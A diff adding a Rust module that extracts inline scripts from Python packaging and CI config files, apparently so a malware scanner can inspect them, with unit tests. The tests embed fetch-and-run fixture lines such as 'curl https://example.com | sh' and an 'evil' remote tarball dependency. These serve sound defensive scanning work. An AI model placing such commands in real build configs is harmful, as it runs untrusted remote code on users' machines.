@@ -0,0 +1,348 @@
+//! Extraction of inline scripts from packaging and CI config files.
+//!
+//! Files like `setup.cfg`, `tox.ini`, `pyproject.toml` and CI pipelines can carry shell or Python
+//! snippets that get executed during builds. Rules keyed on file extensions never see them, so
+//! these snippets are pulled out and scanned as standalone units.
+
+use std::path::Path;
+
+/// File names of CI configs that are recognised regardless of their location
+const CI_CONFIG_FILE_NAMES: &[&str] = &[
+    ".gitlab-ci.yml",
+    ".travis.yml",
+    ".cirrus.yml",
+    "appveyor.yml",
+    "azure-pipelines.yml",
+];
+
+/// YAML keys whose values are executed as scripts by common CI providers
+const CI_SCRIPT_KEYS: &[&str] = &[
+    "run",
+    "script",
+    "before_script",
+    "after_script",
+    "install",
+    "before_install",
+    "command",
+    "commands",
+];
+
+/// An inline script extracted from a config file
+#[derive(Debug, PartialEq, Eq)]
+pub struct Script {
+    /// Where in the config file the script was found, e.g. `testenv` or `tool.poe`
+    pub locator: String,
+
+    /// The source of the script
+    pub source: String,
+}
+
+/// The kinds of config files we know how to pull scripts out of
+#[derive(Debug, PartialEq, Eq, Clone, Copy)]
+enum ConfigKind {
+    Ini,
+    Pyproject,
+    Ci,
+}
+
+impl ConfigKind {
+    fn detect(path: &Path) -> Option<Self> {
+        let file_name = path.file_name()?.to_str()?;
+        let path_str = path.to_string_lossy().replace('\\', "/");
+
+        match file_name {
+            "setup.cfg" | "tox.ini" => Some(Self::Ini),
+            "pyproject.toml" => Some(Self::Pyproject),
+            _ if CI_CONFIG_FILE_NAMES.contains(&file_name) => Some(Self::Ci),
+            _ if path_str.ends_with(".circleci/config.yml") => Some(Self::Ci),
+            _ if path_str.contains(".github/workflows/")
+                && path.extension().is_some_and(|ext| {
+                    ext.eq_ignore_ascii_case("yml") || ext.eq_ignore_ascii_case("yaml")
+                }) =>
+            {
+                Some(Self::Ci)
+            }
+            _ => None,
+        }
+    }
+}
+
+/// Whether the file at `path` is a config file that may contain embedded scripts
+pub fn is_config_file(path: &Path) -> bool {
+    ConfigKind::detect(path).is_some()
+}
+
+/// Extract all embedded scripts from the config file at `path` with the given `contents`.
+///
+/// Returns an empty Vec if the file isn't a known config file, or if it can't be parsed.
+pub fn extract_scripts(path: &Path, contents: &str) -> Vec<Script> {
+    match ConfigKind::detect(path) {
+        Some(ConfigKind::Ini) => extract_ini(contents),
+        Some(ConfigKind::Pyproject) => extract_pyproject(contents),
+        Some(ConfigKind::Ci) => extract_ci(contents),
+        None => Vec::new(),
+    }
+}
+
+/// Extract every section's values from an INI-style file, one script per section
+fn extract_ini(contents: &str) -> Vec<Script> {
+    let mut scripts = Vec::new();
+    let mut section = String::new();
+    let mut lines: Vec<&str> = Vec::new();
+
+    let mut flush = |section: &str, lines: &mut Vec<&str>| {
+        if !lines.is_empty() {
+            scripts.push(Script {
+                locator: section.to_owned(),
+                source: lines.join("\n"),
+            });
+            lines.clear();
+        }
+    };
+
+    for line in contents.lines() {
+        let trimmed = line.trim();
+        if trimmed.is_empty() || trimmed.starts_with('#') || trimmed.starts_with(';') {
+            continue;
+        }
+
+        if let Some(name) = trimmed
+            .strip_prefix('[')
+            .and_then(|rest| rest.strip_suffix(']'))
+        {
+            flush(&section, &mut lines);
+            name.trim().clone_into(&mut section);
+        } else if line.starts_with(char::is_whitespace) {
+            // continuation of a multi-line value
+            lines.push(trimmed);
+        } else if let Some((_, value)) = trimmed.split_once(['=', ':']) {
+            let value = value.trim();
+            if !value.is_empty() {
+                lines.push(value);
+            }
+        }
+    }
+    flush(&section, &mut lines);
+
+    scripts
+}
+
+/// Extract every string under `[build-system]` and each `[tool.*]` table of a `pyproject.toml`
+fn extract_pyproject(contents: &str) -> Vec<Script> {
+    let Ok(document) = contents.parse::<toml::Table>() else {
+        return Vec::new();
+    };
+
+    let mut scripts = Vec::new();
+    let mut push = |locator: String, value: &toml::Value| {
+        let mut strings = Vec::new();
+        collect_toml_strings(value, &mut strings);
+        if !strings.is_empty() {
+            scripts.push(Script {
+                locator,
+                source: strings.join("\n"),
+            });
+        }
+    };
+
+    if let Some(build_system) = document.get("build-system") {
+        push(String::from("build-system"), build_system);
+    }
+
+    if let Some(toml::Value::Table(tools)) = document.get("tool") {
+        for (name, tool) in tools {
+            push(format!("tool.{name}"), tool);
+        }
+    }
+
+    scripts
+}
+
+fn collect_toml_strings<'a>(value: &'a toml::Value, strings: &mut Vec<&'a str>) {
+    match value {
+        toml::Value::String(string) => strings.push(string),
+        toml::Value::Array(array) => {
+            for item in array {
+                collect_toml_strings(item, strings);
+            }
+        }
+        toml::Value::Table(table) => {
+            for item in table.values() {
+                collect_toml_strings(item, strings);
+            }
+        }
+        _ => {}
+    }
+}
+
+/// Extract script blocks from a CI config. Each script key occurrence becomes one script, located
+/// by the key name and its 1-based line number.
+///
+/// This is a line based scan rather than a full YAML parse, which keeps it tolerant of the
+/// templating extensions CI providers bolt on top of YAML.
+fn extract_ci(contents: &str) -> Vec<Script> {
+    let lines: Vec<&str> = contents.lines().collect();
+    let mut scripts = Vec::new();
+    let mut i = 0;
+
+    while i < lines.len() {
+        let line = lines[i];
+        let indent = indentation(line);
+        let trimmed = line.trim_start().trim_start_matches("- ");
+
+        let Some((key, rest)) = trimmed.split_once(':') else {
+            i += 1;
+            continue;
+        };
+
+        if !CI_SCRIPT_KEYS.contains(&key.trim()) {
+            i += 1;
+            continue;
+        }
+
+        let mut body = Vec::new();
+        let inline = rest.trim();
+        if !inline.is_empty() && !inline.starts_with('|') && !inline.starts_with('>') {
+            body.push(inline);
+        }
+
+        let start = i;
+        i += 1;
+        while i < lines.len() && (lines[i].trim().is_empty() || indentation(lines[i]) > indent) {
+            let trimmed = lines[i].trim();
+            if !trimmed.is_empty() {
+                body.push(trimmed.strip_prefix("- ").unwrap_or(trimmed));
+            }
+            i += 1;
+        }
+
+        if !body.is_empty() {
+            scripts.push(Script {
+                locator: format!("{}@{}", key.trim(), start + 1),
+                source: body.join("\n"),
+            });
+        }
+    }
+
+    scripts
+}
+
+fn indentation(line: &str) -> usize {
+    line.len() - line.trim_start().len()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{extract_scripts, is_config_file, Script};
+    use std::path::Path;
+
+    #[test]
+    fn detects_config_files() {
+        assert!(is_config_file(Path::new("pkg-1.0/setup.cfg")));
+        assert!(is_config_file(Path::new("pkg-1.0/tox.ini")));
+        assert!(is_config_file(Path::new("pkg-1.0/pyproject.toml")));
+        assert!(is_config_file(Path::new(
+            "pkg-1.0/.github/workflows/ci.yaml"
+        )));
+        assert!(is_config_file(Path::new("pkg-1.0/.gitlab-ci.yml")));
+        assert!(!is_config_file(Path::new("pkg-1.0/setup.py")));
+        assert!(!is_config_file(Path::new("pkg-1.0/docs/config.yml")));
+    }
+
+    #[test]
+    fn extracts_ini_sections() {
+        let contents = r"
+[testenv]
+commands =
+    pip install .
+    python -c 'import os; os.system(1)'
+
+# comment
+[metadata]
+name = pkg
+";
+
+        let scripts = extract_scripts(Path::new("tox.ini"), contents);
+
+        assert_eq!(
+            scripts,
+            vec![
+                Script {
+                    locator: "testenv".into(),
+                    source: "pip install .\npython -c 'import os; os.system(1)'".into(),
+                },
+                Script {
+                    locator: "metadata".into(),
+                    source: "pkg".into(),
+                },
+            ]
+        );
+    }
+
+    #[test]
+    fn extracts_pyproject_tool_tables() {
+        let contents = r#"
+[project]
+name = "pkg"
+
+[build-system]
+requires = ["setuptools", "evil @ https://example.com/evil.tar.gz"]
+
+[tool.poe.tasks]
+setup = "curl https://example.com | sh"
+"#;
+
+        let scripts = extract_scripts(Path::new("pyproject.toml"), contents);
+
+        assert_eq!(
+            scripts,
+            vec![
+                Script {
+                    locator: "build-system".into(),
+                    source: "setuptools\nevil @ https://example.com/evil.tar.gz".into(),
+                },
+                Script {
+                    locator: "tool.poe".into(),
+                    source: "curl https://example.com | sh".into(),
+                },
+            ]
+        );
+    }
+
+    #[test]
+    fn invalid_pyproject_yields_nothing() {
+        assert!(extract_scripts(Path::new("pyproject.toml"), "[tool").is_empty());
+    }
+
+    #[test]
+    fn extracts_ci_run_blocks() {
+        let contents = r"
+jobs:
+  build:
+    steps:
+      - uses: actions/checkout@v4
+      - run: echo inline
+      - name: Multi
+        run: |
+          curl https://example.com/x.sh
+          bash x.sh
+      - name: Other
+";
+
+        let scripts = extract_scripts(Path::new(".github/workflows/ci.yml"), contents);
+
+        assert_eq!(
+            scripts,
+            vec![
+                Script {
+                    locator: "run@6".into(),
+                    source: "echo inline".into(),
+                },
+                Script {
+                    locator: "run@8".into(),
+                    source: "curl https://example.com/x.sh\nbash x.sh".into(),
+                },
+            ]
+        );
+    }
+}